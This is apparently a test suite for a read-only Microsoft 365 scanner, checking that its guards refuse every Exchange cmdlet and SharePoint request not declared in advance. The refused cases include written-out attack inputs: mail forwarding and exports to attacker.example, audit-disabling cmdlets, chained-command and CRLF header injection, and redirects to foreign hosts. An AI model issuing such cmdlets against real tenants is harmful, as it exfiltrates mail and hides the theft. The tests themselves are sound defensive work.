"""Nothing but declared `Get-` cmdlets reaches Exchange, and nothing but one read SharePoint's admin site."""

from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from exchange_kit import DECLARED, HIDDEN_RULES, MAILBOXES, REMOTE_DOMAINS, SETTINGS, a_firm, a_full_session, upn

from scanner.exchange import Exchange
from scanner.transport.budget import BudgetKey
from scanner.transport.errors import RequestRefused
from scanner.transport.exchange_guard import ExchangeGuard
from scanner.transport.invocation import Invocation
from scanner.transport.send import Call, Signer
from scanner.transport.session import Session
from scanner.transport.sharepoint_guard import SharePointGuard
from scanner.transport.templates import Cmdlet, Declaration
from simulator.server import Simulator

FRONT = "https://outlook.office365.com"
TENANT = "a61a1ba7-cfaf-5243-93c3-020f41b29f4e"
INVOKE = f"adminapi/beta/{TENANT}/InvokeCommand"
SELECT = "$select=UserPrincipalName,ForwardingSmtpAddress"
SYSTEM = f"APP:SystemMailbox{{bb558c35-97f1-4cb9-8ff7-d53741dc928c}}@{TENANT}"

REFUSED_CMDLETS: list[tuple[str, dict[str, Any]]] = [
    # writes
    ("Set-Mailbox", {"Identity": "u1@acme.example", "ForwardingSmtpAddress": "x@attacker.example"}),
    ("New-InboxRule", {"Mailbox": "u1@acme.example", "Name": "x", "ForwardTo": "x@attacker.example"}),
    ("Remove-InboxRule", {"Mailbox": "u1@acme.example", "Identity": "x"}),
    ("Disable-InboxRule", {"Identity": "x"}),
    ("Set-TransportRule", {"Identity": "x", "State": "Disabled"}),
    ("New-TransportRule", {"Name": "x", "BlindCopyTo": "x@attacker.example"}),
    ("Add-MailboxPermission", {"Identity": "u1", "User": "x", "AccessRights": "FullAccess"}),
    ("Set-RemoteDomain", {"Identity": "Default", "AutoForwardEnabled": True}),
    ("Set-HostedOutboundSpamFilterPolicy", {"Identity": "Default", "AutoForwardingMode": "On"}),
    ("Set-OrganizationConfig", {"AuditDisabled": True}),
    ("Set-AdminAuditLogConfig", {"UnifiedAuditLogIngestionEnabled": False}),
    ("Enable-OrganizationCustomization", {}),
    ("Remove-Mailbox", {"Identity": "u1", "Confirm": False}),
    ("Start-ManagedFolderAssistant", {"Identity": "u1"}),
    ("Release-QuarantineMessage", {"Identity": "x", "ReleaseToAll": True}),
    # content
    ("Get-MessageTrace", {"SenderAddress": "u1@acme.example"}),
    ("Get-MessageTraceV2", {}),
    ("Get-MessageTraceDetail", {"MessageTraceId": "x"}),
    ("Get-MessageTrackingReport", {"Identity": "x"}),
    ("Get-QuarantineMessage", {}),
    ("Get-QuarantineMessageHeader", {"Identity": "x"}),
    ("Preview-QuarantineMessage", {"Identity": "x"}),
    ("Export-QuarantineMessage", {"Identity": "x"}),
    ("Get-RecoverableItems", {"Identity": "u1"}),
    ("Get-CalendarDiagnosticObjects", {"Identity": "u1"}),
    ("Get-MailboxFolderStatistics", {"Identity": "u1", "IncludeOldestAndNewestItems": True}),
    ("Search-Mailbox", {"Identity": "u1", "SearchQuery": "secret", "TargetMailbox": "x"}),
    ("Search-UnifiedAuditLog", {"StartDate": "2026-11-01", "EndDate": "2026-11-02"}),
    ("Get-MailboxSearch", {}),
    ("New-MailboxExportRequest", {"Mailbox": "u1", "FilePath": "//attacker/x"}),
    ("Get-MailboxExportRequest", {}),
    ("Get-ContentMalwareMdoDetailReport", {}),
    # reads that nobody declared, and declared ones that were widened
    ("Get-Mailbox", {}),
    ("get-mailbox", {"ResultSize": "Unlimited"}),
    ("Get-Mailbox", {"ResultSize": "Unlimited", "SoftDeletedMailbox": True}),
    ("Get-Mailbox", {"ResultSize": "Unlimited", "Identity": "u1"}),
    ("Get-Mailbox", {"ResultSize": 1000}),
    ("Get-RemoteDomain", {"Identity": "Default"}),
    ("Get-InboxRule", {"Mailbox": "u1@acme.example"}),
    ("Get-InboxRule", {"IncludeHidden": False, "Mailbox": "u1@acme.example"}),
    ("Get-InboxRule", {"IncludeHidden": True, "Mailbox": "*@acme.example"}),
    ("Get-InboxRule", {"IncludeHidden": True, "Mailbox": ["u1@acme.example", "u2@acme.example"]}),
    ("Get-InboxRule", {"IncludeHidden": True, "Mailbox": {"x": "u1@acme.example"}}),
    ("Get-InboxRule", {"IncludeHidden": True, "Mailbox": "u1@acme.example", "Identity": "x"}),
    ("Get-TransportRule", {}),
    ("Get-Mailbox; Remove-Mailbox u1", {"ResultSize": "Unlimited"}),
]

REFUSED_ADDRESSES = [
    ("GET", f"https://front/{INVOKE}?{SELECT}"),
    ("PUT", f"https://front/{INVOKE}?{SELECT}"),
    ("DELETE", f"https://front/{INVOKE}?{SELECT}"),
    ("POST", f"https://front/{INVOKE}"),
    ("POST", f"https://front/{INVOKE}?$select=UserPrincipalName"),
    ("POST", f"https://front/{INVOKE}?{SELECT}&$skiptoken=guessed"),
    ("POST", f"https://front/adminapi/beta/{TENANT}/$batch"),
    ("POST", f"https://front/adminapi/v2.0/{TENANT}/Mailbox?{SELECT}"),
    ("POST", f"https://front/adminapi/beta/{TENANT}/Mailbox?{SELECT}"),
    ("POST", f"https://front/adminapi/beta/{TENANT}/InvokeCommand/x?{SELECT}"),
    ("POST", f"https://front/adminapi/beta/{'0' * 8}-0000-0000-0000-{'0' * 12}/InvokeCommand?{SELECT}"),
    ("POST", f"https://front/api/v2.0/users/u1/messages?{SELECT}"),
    ("POST", f"https://front/EWS/Exchange.asmx?{SELECT}"),
    ("POST", f"https://attacker.example/{INVOKE}?{SELECT}"),
    ("GET", f"https://front/adminapi/v1.0/{TENANT}/EXOModuleFile?Version=1"),
    ("GET", "https://front/api/v2.0/me/messages"),
    ("POST", f"https://front/adminapi/v1.0/{TENANT}/EXOModuleFile"),
]

REFUSED_OF_SHAREPOINT = [
    ("POST", "_api/SPO.Tenant"),
    ("PATCH", "_api/SPO.Tenant"),
    ("DELETE", "_api/SPO.Tenant"),
    ("GET", "_api/SPO.Tenant?$expand=Sites"),
    ("GET", "_api/SPO.Tenant/Sites"),
    ("GET", "_api/SPO.Tenant/"),
    ("GET", "_api/spo.tenant/../web"),
    ("GET", "_api/web"),
    ("GET", "_api/web/lists"),
    ("GET", "_api/web/GetFileByServerRelativeUrl('/x.docx')/$value"),
    ("GET", "_api/search/query?querytext='salary'"),
    ("POST", "_vti_bin/client.svc/ProcessQuery"),
    ("POST", "_api/contextinfo"),
]


@pytest.fixture
def firm(simulator_folder: Path) -> Iterator[Simulator]:
    with Simulator([a_firm()], simulator_folder, clock_speed=100) as running:
        yield running


class Altered:
    """Signs as the session does, then sends something else: what a bug further up could do."""

    def __init__(self, signer: Signer, request: httpx.Request) -> None:
        self._signer = signer
        self._request = request

    async def sign(self, method: str, url: str, headers: Mapping[str, str], body: bytes | None) -> httpx.Request:
        signed = await self._signer.sign(method, url, headers, body)
        kept = {name: value for name, value in signed.headers.items() if name not in {"host", "content-length"}}
        kept |= {name: value for name, value in self._request.headers.items() if name not in {"host", "content-length"}}
        return httpx.Request(self._request.method, self._request.url, headers=kept, content=self._request.content)

    def reject(self, token: str) -> None:
        self._signer.reject(token)


async def is_refused(session: Session, declared: Declaration, request: httpx.Request) -> bool:
    """Send a request past everything but the allow-list."""
    honest = session.sender.signers
    session.sender.signers = {key: Altered(signer, request) for key, signer in honest.items()}
    try:
        await session.sender.send(Call(declared, str(request.url), BudgetKey(declared.workload), 1.0, {}))
    except RequestRefused:
        return True
    finally:
        session.sender.signers = honest
    return False


def a_body(name: str, parameters: Mapping[str, Any]) -> bytes:
    return orjson.dumps({"CmdletInput": {"CmdletName": name, "Parameters": dict(parameters)}})


def a_request(
    body: bytes | None, method: str = "POST", url: str = f"{FRONT}/{INVOKE}?{SELECT}", **headers: str
) -> httpx.Request:
    sent = {"X-AnchorMailbox": SYSTEM, "X-CmdletName": "Get-Mailbox"} if method == "POST" else {}
    sent |= {name.replace("_", "-"): value for name, value in headers.items()}
    return httpx.Request(method, url, headers=sent, content=body)


def a_guard(*cmdlets: Cmdlet, **options: Any) -> ExchangeGuard:  # noqa: ANN401 - options of the guard
    return ExchangeGuard(FRONT, TENANT, cmdlets or (MAILBOXES, REMOTE_DOMAINS, HIDDEN_RULES), **options)


def refusal(guard: ExchangeGuard | SharePointGuard, request: httpx.Request) -> str:
    """Return the code of the refusal, "" when the request passes."""
    try:
        guard.admit(request, "tested")
    except RequestRefused as error:
        return error.code
    return ""


ALL_MAILBOXES = Invocation.of(MAILBOXES, {})


def test_the_tables_of_refused_requests_are_long_enough() -> None:
    assert len(REFUSED_CMDLETS) + len(REFUSED_ADDRESSES) + len(REFUSED_OF_SHAREPOINT) >= 70


async def test_no_cmdlet_but_a_declared_one_reaches_the_socket(firm: Simulator) -> None:
    async with a_full_session(firm) as session:
        firm.requests.clear()
        url = f"{session.exchange.front}/{INVOKE}?{SELECT}"
        let_through = [
            (name, parameters)
            for name, parameters in REFUSED_CMDLETS
            if not await is_refused(session, MAILBOXES, a_request(a_body(name, parameters), url=url))
        ]
        reached = [request.path for request in firm.requests if request.path.startswith("adminapi")]

        assert not await is_refused(session, MAILBOXES, a_request(ALL_MAILBOXES.body, url=url))
    assert let_through == []
    assert reached == []


async def test_no_other_address_of_exchange_is_reached(firm: Simulator) -> None:
    async with a_full_session(firm) as session:
        firm.requests.clear()
        let_through = []
        for method, address in REFUSED_ADDRESSES:
            url = address.replace("https://front", session.exchange.front)
            if not await is_refused(session, MAILBOXES, a_request(ALL_MAILBOXES.body, method, url)):
                let_through.append((method, address))

    assert let_through == []
    assert [request.path for request in firm.requests if not request.path.endswith("token")] == []


async def test_no_other_address_of_sharepoint_is_reached(firm: Simulator) -> None:
    async with a_full_session(firm) as session:
        origin = session.sharepoint("acme", SETTINGS).origin
        firm.requests.clear()
        let_through = [
            (method, path)
            for method, path in REFUSED_OF_SHAREPOINT
            if not await is_refused(session, SETTINGS, httpx.Request(method, f"{origin}/{path}"))
        ]
        reached = [request.path for request in firm.requests if not request.path.endswith("token")]

        assert not await is_refused(session, SETTINGS, httpx.Request("GET", f"{origin}/_api/SPO.Tenant"))
    assert let_through == []
    assert reached == []


async def test_a_request_of_one_service_is_none_of_another(firm: Simulator) -> None:
    async with a_full_session(firm) as session:
        origin = session.sharepoint("acme", SETTINGS).origin
        firm.requests.clear()
        exchange = a_request(ALL_MAILBOXES.body, url=f"{session.exchange.front}/{INVOKE}?{SELECT}")
        sharepoint = httpx.Request("GET", f"{origin}/_api/SPO.Tenant")

        assert await is_refused(session, SETTINGS, exchange)
        assert await is_refused(session, MAILBOXES, sharepoint)

    assert [request.path for request in firm.requests if not request.path.endswith("token")] == []


@pytest.mark.parametrize("name", sorted({name for name, _ in REFUSED_CMDLETS[:32]}))
def test_a_cmdlet_that_writes_or_reads_content_cannot_even_be_declared(name: str) -> None:
    with pytest.raises(RequestRefused):
        a_guard(Cmdlet(name, select=("Identity",)))


@pytest.mark.parametrize(
    "mistake",
    [
        replace(MAILBOXES, select=()),
        replace(HIDDEN_RULES, mailbox="Identity"),
        replace(HIDDEN_RULES, parameters=(("Mailbox", "u1"),)),
    ],
)
def test_a_careless_declaration_is_refused(mistake: Cmdlet) -> None:
    with pytest.raises(ValueError, match="Get-"):
        a_guard(mistake)


def test_a_declared_call_passes() -> None:
    rules = Invocation.of(HIDDEN_RULES, {"Mailbox": upn(1)})
    url = f"{FRONT}/{INVOKE}?$select=Name,ForwardTo"

    assert refusal(a_guard(), a_request(ALL_MAILBOXES.body)) == ""
    routed = a_request(rules.body, url=url, X_AnchorMailbox=upn(1), X_CmdletName="Get-InboxRule")
    assert refusal(a_guard(), routed) == ""


@pytest.mark.parametrize(
    ("change", "code"),
    [
        pytest.param({"url": f"http://outlook.office365.com/{INVOKE}?{SELECT}"}, "origin", id="plain http"),
        pytest.param({"url": f"{FRONT}:8443/{INVOKE}?{SELECT}"}, "origin", id="another port"),
        pytest.param(
            {"url": f"https://eur01.outlook.office365.com/{INVOKE}?{SELECT}"}, "origin", id="an unnamed region"
        ),
        pytest.param({"body": ALL_MAILBOXES.body + b" "}, "cmdlet", id="other bytes"),
        pytest.param({"body": b'{"CmdletInput":{"CmdletName":"Get-Mailbox"}}'}, "cmdlet", id="no parameters"),
        pytest.param(
            {"body": b'{"CmdletInput":{"CmdletName":"Set-Mailbox","CmdletName":"Get-Mailbox","Parameters":{}}}'},
            "cmdlet",
            id="a key given twice",
        ),
        pytest.param({"body": b"[]"}, "cmdlet", id="no object"),
        pytest.param({"body": b"{"}, "cmdlet", id="no JSON"),
        pytest.param({"body": b""}, "cmdlet", id="no body"),
        pytest.param({"X_AnchorMailbox": upn(1)}, "header", id="routed to a mailbox"),
        pytest.param({"X_CmdletName": "Set-Mailbox"}, "header", id="another cmdlet in the header"),
        pytest.param({"CommandName": "*"}, "header", id="a header of the module file"),
        pytest.param({"X_HTTP_Method_Override": "PUT"}, "header", id="a header of its own"),
        pytest.param({"X_ClientApplication": "x"}, "header", id="an unknown header"),
    ],
)
def test_it_looks_at_the_whole_request(change: dict[str, Any], code: str) -> None:
    request = a_request(change.pop("body", ALL_MAILBOXES.body), **change)

    assert refusal(a_guard(), request) == code


def test_the_module_file_is_asked_for_all_cmdlets_or_none() -> None:
    url = f"{FRONT}/adminapi/v1.0/{TENANT}/EXOModuleFile"

    assert refusal(a_guard(), a_request(None, "GET", url)) == ""
    assert refusal(a_guard(), a_request(None, "GET", url, CommandName="*")) == ""
    assert refusal(a_guard(), a_request(None, "GET", url, CommandName="Set-Mailbox")) == "header"
    assert refusal(a_guard(), a_request(b"{}", "GET", url)) == "body"


@pytest.mark.parametrize(
    "values",
    [
        {},
        {"Mailbox": upn(1), "Identity": "x"},
        {"Mailbox": ""},
        {"Mailbox": "*"},
        {"Mailbox": "u?@acme.example"},
        {"Mailbox": "someone"},
        {"Mailbox": "u1@acme.example\r\nX-Evil: 1"},
        {"Mailbox": "u1@acme.example "},
        {"Mailbox": "ü1@acme.example"},
        {"Mailbox": None},
        {"Mailbox": 7},
        {"Mailbox": f"{'a' * 320}@acme.example"},
    ],
)
def test_a_value_is_one_mailbox_and_nothing_else(values: dict[str, object]) -> None:
    with pytest.raises(RequestRefused):
        Invocation.of(HIDDEN_RULES, values)


@pytest.mark.parametrize(
    ("location", "region"),
    [
        (f"https://eur01.outlook.office365.com/{INVOKE}", "https://eur01.outlook.office365.com"),
        ("https://eur01b.outlook.office365.com:446/anything?else=1", "https://eur01b.outlook.office365.com"),
        ("https://outlook.office365.com/", "https://outlook.office365.com"),
    ],
)
def test_a_region_is_a_name_directly_below_the_front_door(location: str, region: str) -> None:
    guard = a_guard()

    assert guard.adopt_region(location, "tested") == region
    assert refusal(guard, a_request(ALL_MAILBOXES.body, url=f"{region}/{INVOKE}?{SELECT}")) == ""


@pytest.mark.parametrize(
    "location",
    [
        "",
        "/adminapi/v1.0/x/EXOModuleFile",
        "http://eur01.outlook.office365.com/",
        "https://outlook.office365.com.attacker.example/",
        "https://attacker.example/outlook.office365.com",
        "https://eur01outlook.office365.com/",
        "https://a.b.outlook.office365.com/",
        "https://eur01.outlook.office365.us/",
        "https://someone@eur01.outlook.office365.com/",
        "https://eur01.outlook.office365.com@attacker.example/",
        "https://-.outlook.office365.com/",
        "https://127.0.0.1:8443/",
    ],
)
def test_any_other_redirect_is_refused(location: str) -> None:
    with pytest.raises(RequestRefused) as refused:
        a_guard().adopt_region(location, "tested")

    assert refused.value.code == "foreign_region"


def test_a_front_door_on_this_machine_has_regions_on_this_machine_only() -> None:
    guard = ExchangeGuard("https://127.0.0.1:9445", TENANT, (MAILBOXES,), is_local=True)

    assert guard.adopt_region("https://127.0.0.1:9999/x", "tested") == "https://127.0.0.1:9999"
    for location in ("https://eur01.outlook.office365.com/", "https://127.0.0.2:9999/", "http://127.0.0.1:9999/"):
        with pytest.raises(RequestRefused):
            guard.adopt_region(location, "tested")


def test_a_continuation_passes_only_after_an_answer_brought_it_and_only_with_its_body() -> None:
    guard = a_guard()
    link = f"{FRONT}/{INVOKE}?$skiptoken=opaque"
    before = refusal(guard, a_request(ALL_MAILBOXES.body, url=link))
    guard.trust(ALL_MAILBOXES, link)
    other = a_request(Invocation.of(REMOTE_DOMAINS, {}).body, url=link, X_CmdletName="Get-RemoteDomain")

    assert before == "query"
    assert refusal(guard, a_request(ALL_MAILBOXES.body, url=link)) == ""
    assert refusal(guard, other) == "query"


@pytest.mark.parametrize(
    ("link", "code"),
    [
        (f"https://attacker.example/{INVOKE}?$skiptoken=x", "foreign_continuation"),
        (f"{FRONT}:444/{INVOKE}?$skiptoken=x", "foreign_continuation"),
        (f"https://eur01.outlook.office365.com/{INVOKE}?$skiptoken=x", "foreign_continuation"),
        (f"/{INVOKE}?$skiptoken=x", "foreign_continuation"),
        ("https://outlook.office365.com/\x00", "foreign_continuation"),
        (f"{FRONT}/{INVOKE}", "undeclared_continuation"),
        (f"{FRONT}/{INVOKE}?{SELECT}", "undeclared_continuation"),
        (f"{FRONT}/{INVOKE}?$select=ForwardingAddress&$skiptoken=x", "undeclared_continuation"),
        (f"{FRONT}/{INVOKE}?$expand=x&$skiptoken=x", "undeclared_continuation"),
        (f"{FRONT}/{INVOKE}?$skiptoken=x&$skiptoken=y", "undeclared_continuation"),
        (f"{FRONT}/adminapi/beta/{TENANT}/Mailbox?$skiptoken=x", "undeclared_continuation"),
        (f"{FRONT}/adminapi/beta/another/InvokeCommand?$skiptoken=x", "undeclared_continuation"),
    ],
)
def test_a_continuation_stays_where_the_call_is(link: str, code: str) -> None:
    with pytest.raises(RequestRefused) as refused:
        a_guard().trust(ALL_MAILBOXES, link)

    assert refused.value.code == code


async def test_what_was_not_declared_to_the_session_cannot_be_called(firm: Simulator) -> None:
    async with a_full_session(firm, declared=[REMOTE_DOMAINS]) as session:
        with pytest.raises(RequestRefused) as refused:
            await anext(aiter(Exchange(session).rows(MAILBOXES)))

    assert refused.value.code == "undeclared"


async def test_a_refusal_tells_nothing_of_the_request(firm: Simulator) -> None:
    async with a_full_session(firm, declared=DECLARED) as session:
        with pytest.raises(RequestRefused) as refused:
            await anext(aiter(Exchange(session).rows(HIDDEN_RULES, Mailbox="canary*")))

    assert "canary" not in f"{refused.value} {refused.value!r}"
